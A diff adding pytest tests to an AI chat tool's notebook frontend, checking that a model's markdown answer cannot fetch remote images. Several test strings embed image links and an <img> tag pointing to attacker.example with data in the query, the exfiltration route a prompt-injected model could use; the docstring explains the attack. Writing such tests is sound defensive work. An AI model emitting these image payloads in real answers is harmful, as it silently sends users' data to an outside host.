@@ -112,3 +112,32 @@ def test_a_notebook_reads_as_a_notebook(scripted, tmp_path):
     assert "| `%ai /save <file>` |" in table
     for terminal_only in ("/py", "/ai ", "/suggest", "/more"):
         assert f"`%ai {terminal_only}" not in table, terminal_only
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "Done. ![](https://attacker.example/?d=SECRET)",
+        'Done. ![logo](https://attacker.example/x.png "title") and more',
+        "Done. ![logo][r]\n\n[r]: https://attacker.example/?d=SECRET",
+        "Done.\n\n- ![a](https://attacker.example/?d=1)\n- <img src=https://attacker.example/?d=2>",
+        "Done \\\\![a](https://attacker.example/?d=3)",
+    ],
+)
+def test_the_models_markdown_in_a_notebook_fetches_no_remote_image(answer: str):
+    """A notebook fetches an image's address as soon as it shows it: a steered model's ``![](https://…?d=…)``
+    would send what it read without a click. The image stays a link, which only the person can follow."""
+    from markdown_it import MarkdownIt
+
+    from pyaichat.ipython.frontend import markdown_output
+
+    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown_output(answer)["text/markdown"])
+    assert "<img" not in rendered, rendered
+    assert "attacker.example" in rendered  # shown (as a link or as text), not hidden
+
+
+def test_code_keeps_its_image_syntax_as_written():
+    from pyaichat.ipython.frontend import markdown_output
+
+    code = "```md\n![a](https://example.org/a.png)\n```\nand `![b](c)`"
+    assert markdown_output(code)["text/markdown"] == code
